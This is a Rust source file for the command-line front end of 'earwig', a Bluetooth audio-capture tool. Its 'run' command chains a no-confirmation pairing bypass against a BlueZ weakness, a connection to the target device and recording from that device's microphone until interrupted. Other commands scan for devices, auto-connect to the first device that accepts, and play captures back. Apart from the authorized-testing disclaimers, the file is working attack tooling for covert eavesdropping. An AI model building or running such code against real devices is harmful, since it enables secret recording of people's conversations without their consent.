//! # earwig
//!
//! Operator CLI for earwig, a Bluetooth audio-capture assessment tool.
//! For authorized security testing of devices you own or have permission to
//! assess.
//!
//! The `run` command drives the full chain: no-confirmation pairing bypass,
//! connection, audio capture until Ctrl+C, optional playback. The other
//! commands expose the individual steps.

#![forbid(unsafe_code)]
#![warn(clippy::all, clippy::pedantic, clippy::nursery)]

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use clap::{Parser, Subcommand};
use tokio::sync::Notify;
use tracing::{error, info, warn};
use tracing_subscriber::EnvFilter;

use earwig_core::{
    AddressType, Config, ConnectionManager, DeviceRegistry, PairingAgent, PulseAudio,
    RecordingController, RetryPolicy, SystemRunner, Target, REQUIRED_TOOLS,
};

#[derive(Parser)]
#[command(
    name = "earwig",
    version,
    about = "Bluetooth audio-capture assessment tool",
    long_about = "Drives a local Bluetooth controller through the BlueZ \
no-confirmation pairing weakness, then connects to the target and captures \
audio from its microphone. Use only against devices you are authorized to test."
)]
struct Cli {
    /// Configuration file (defaults to the system location).
    #[arg(long, global = true)]
    config: Option<PathBuf>,

    /// Show debug output, including every external command.
    #[arg(short, long, global = true)]
    verbose: bool,

    #[command(subcommand)]
    command: Commands,
}

#[derive(Subcommand)]
enum Commands {
    /// Full chain: pair via the bypass, connect, record until Ctrl+C.
    Run {
        /// Target device MAC address.
        #[arg(short = 'a', long = "target-address")]
        address: String,

        /// Target address type (BR_EDR, LE_PUBLIC, LE_RANDOM, or 0-2).
        #[arg(short = 't', long = "target-address-type", default_value = "BR_EDR")]
        address_type: AddressType,

        /// File name for the recorded audio.
        #[arg(short = 'f', long = "file")]
        outfile: Option<String>,

        /// Sink to play the audio back on.
        #[arg(short = 's', long)]
        sink: Option<String>,

        /// Play the capture back after recording.
        #[arg(long)]
        playback: bool,
    },

    /// Scan for nearby devices.
    Scan {
        /// Scan duration in seconds.
        #[arg(long)]
        timeout_secs: Option<u64>,
    },

    /// Attempt the no-confirmation pairing bypass.
    Pair {
        /// Target device MAC address.
        #[arg(short = 'a', long = "target-address")]
        address: String,

        /// Target address type (BR_EDR, LE_PUBLIC, LE_RANDOM, or 0-2).
        #[arg(short = 't', long = "target-address-type", default_value = "BR_EDR")]
        address_type: AddressType,
    },

    /// Connect to a device (with retries), or auto-connect to the first
    /// candidate that accepts.
    Connect {
        /// Target device MAC address.
        #[arg(short = 'a', long = "target-address")]
        address: Option<String>,

        /// Scan and connect to the first available device instead.
        #[arg(long, conflicts_with = "address")]
        auto: bool,

        /// Number of connection attempts.
        #[arg(short = 'r', long)]
        retry: Option<u32>,
    },

    /// Record audio from an already-connected device until Ctrl+C.
    Record {
        /// Target device MAC address.
        #[arg(short = 'a', long = "target-address")]
        address: String,

        /// File name for the recorded audio.
        #[arg(short = 'f', long = "file")]
        outfile: Option<String>,
    },

    /// Play a recorded file on a sink.
    Play {
        /// Sink to play on (defaults to the configured sink).
        #[arg(short = 's', long)]
        sink: Option<String>,

        /// File to play.
        file: PathBuf,
    },

    /// List known devices from the registry.
    Devices,

    /// Check that the required external tools are installed.
    Doctor,
}

/// Everything the commands need, built once from the resolved config.
struct Context {
    config: Config,
    registry: DeviceRegistry,
    agent: PairingAgent,
    manager: ConnectionManager,
    recorder: RecordingController,
}

impl Context {
    fn new(config: Config, retry_override: Option<u32>) -> Self {
        let runner = Arc::new(SystemRunner::new(config.privileged));
        let registry = DeviceRegistry::new(config.data_dir.clone());
        let retry = RetryPolicy {
            attempts: retry_override.unwrap_or(config.connect_attempts),
            delay: Duration::from_secs(config.connect_retry_delay_secs),
        };
        let agent = PairingAgent::new(runner.clone(), config.tools());
        let manager =
            ConnectionManager::new(runner.clone(), config.tools(), registry.clone(), retry);
        let audio = Arc::new(PulseAudio::new(runner, config.tools()));
        let recorder =
            RecordingController::new(audio, registry.clone(), config.recordings_dir.clone());
        Self {
            config,
            registry,
            agent,
            manager,
            recorder,
        }
    }
}

#[tokio::main]
async fn main() {
    let cli = Cli::parse();

    let default_level = if cli.verbose { "debug" } else { "info" };
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env()
                .unwrap_or_else(|_| EnvFilter::new(default_level)),
        )
        .with_target(false)
        .init();

    if let Err(e) = run(cli).await {
        error!("{e:#}");
        info!(
            "Make sure the required external tools are installed: {}",
            REQUIRED_TOOLS.join(", ")
        );
        std::process::exit(1);
    }
}

async fn run(cli: Cli) -> anyhow::Result<()> {
    let config_path = cli.config.clone().unwrap_or_else(Config::default_path);
    let config = Config::load_or_detect(&config_path)?;

    match cli.command {
        Commands::Run {
            address,
            address_type,
            outfile,
            sink,
            playback,
        } => {
            let ctx = Context::new(config, None);
            run_full_chain(&ctx, &address, address_type, outfile, sink, playback).await
        }

        Commands::Scan { timeout_secs } => {
            let ctx = Context::new(config, None);
            let timeout = timeout_secs.unwrap_or(ctx.config.scan_timeout_secs);
            info!("Scanning for devices ({timeout}s)...");
            let targets = ctx.manager.discover(timeout).await?;
            if targets.is_empty() {
                warn!("No devices found during scan");
                return Ok(());
            }
            println!("Available devices:");
            for (i, target) in targets.iter().enumerate() {
                let name = target.name.as_deref().unwrap_or("(unknown)");
                let rssi = target
                    .rssi
                    .map_or_else(String::new, |r| format!("  RSSI {r}"));
                println!("{}. {}  {}{}", i + 1, target.address, name, rssi);
            }
            Ok(())
        }

        Commands::Pair {
            address,
            address_type,
        } => {
            let ctx = Context::new(config, None);
            let target = Target::new(address.parse()?, address_type);
            info!("Attempting no-confirmation pairing with {}", target.address);
            if ctx.agent.pair(&target).await?.is_paired() {
                info!("Pairing succeeded - the device accepts the bypass");
            } else {
                warn!("Authentication rejected - the device is probably not vulnerable");
            }
            Ok(())
        }

        Commands::Connect {
            address,
            auto,
            retry,
        } => {
            let ctx = Context::new(config, retry);
            if auto {
                match ctx.manager.auto_connect(ctx.config.scan_timeout_secs).await? {
                    Some(target) => info!("Successfully connected to {}", target.address),
                    None => warn!("Automatic connection failed"),
                }
                return Ok(());
            }
            let Some(address) = address else {
                anyhow::bail!("no target address specified; use -a ADDRESS or --auto");
            };
            let target = ctx
                .manager
                .connect_address(&address, AddressType::default())
                .await?;
            info!("Successfully connected to {}", target.address);
            Ok(())
        }

        Commands::Record { address, outfile } => {
            let ctx = Context::new(config, None);
            let target = Target::new(address.parse()?, AddressType::default());
            record_until_interrupt(&ctx, &target, outfile).await?;
            Ok(())
        }

        Commands::Play { sink, file } => {
            let ctx = Context::new(config, None);
            let sink = sink.unwrap_or_else(|| ctx.config.playback_sink.clone());
            info!("Playing {} on {sink}", file.display());
            ctx.recorder.play(&sink, &file).await?;
            Ok(())
        }

        Commands::Devices => {
            let ctx = Context::new(config, None);
            let devices = ctx.registry.devices();
            if devices.is_empty() {
                println!("No devices recorded yet.");
                return Ok(());
            }
            for device in devices {
                let name = device.name.as_deref().unwrap_or("(unknown)");
                println!(
                    "{}  {}  type={}  last seen {}  connections {}",
                    device.address,
                    name,
                    device.address_type,
                    device.last_seen,
                    device.connection_history.len()
                );
            }
            Ok(())
        }

        Commands::Doctor => {
            let missing = config.tools().missing();
            if missing.is_empty() {
                println!("All required tools present: {}", REQUIRED_TOOLS.join(", "));
                Ok(())
            } else {
                anyhow::bail!("missing required tools: {}", missing.join(", "));
            }
        }
    }
}

/// The original proof-of-concept flow: bypass pairing, connect, capture.
async fn run_full_chain(
    ctx: &Context,
    address: &str,
    address_type: AddressType,
    outfile: Option<String>,
    sink: Option<String>,
    playback: bool,
) -> anyhow::Result<()> {
    let mut target = Target::new(address.parse()?, address_type);

    info!("Avoiding authentication with {}...", target.address);
    if !ctx.agent.pair(&target).await?.is_paired() {
        warn!("Authentication error while trying to pair");
        warn!("The device probably is not vulnerable");
        return Ok(());
    }
    info!("The device is vulnerable - bond established");

    tokio::time::sleep(Duration::from_secs(1)).await;

    info!("Establishing connection...");
    ctx.manager.connect_with_retry(&mut target).await?;
    tokio::time::sleep(Duration::from_secs(3)).await;

    let metadata = record_until_interrupt(ctx, &target, outfile).await?;

    if playback {
        let sink = sink.unwrap_or_else(|| ctx.config.playback_sink.clone());
        info!("Playing capture back on {sink}");
        ctx.recorder
            .play(&sink, std::path::Path::new(&metadata.path))
            .await?;
    }
    info!("Exiting");
    Ok(())
}

/// Records until the capture ends on its own or Ctrl+C fires.
async fn record_until_interrupt(
    ctx: &Context,
    target: &Target,
    outfile: Option<String>,
) -> anyhow::Result<earwig_core::RecordingMetadata> {
    info!("Starting audio recording - press Ctrl+C to stop");

    let cancel = Arc::new(Notify::new());
    let cancel_on_signal = Arc::clone(&cancel);
    tokio::spawn(async move {
        if tokio::signal::ctrl_c().await.is_ok() {
            cancel_on_signal.notify_one();
        }
    });

    let metadata = ctx.recorder.record(target, outfile, &cancel).await?;
    info!(
        "Recording stored in \"{}\" ({} bytes, ~{}s)",
        metadata.path, metadata.size_bytes, metadata.duration_seconds
    );
    Ok(metadata)
}
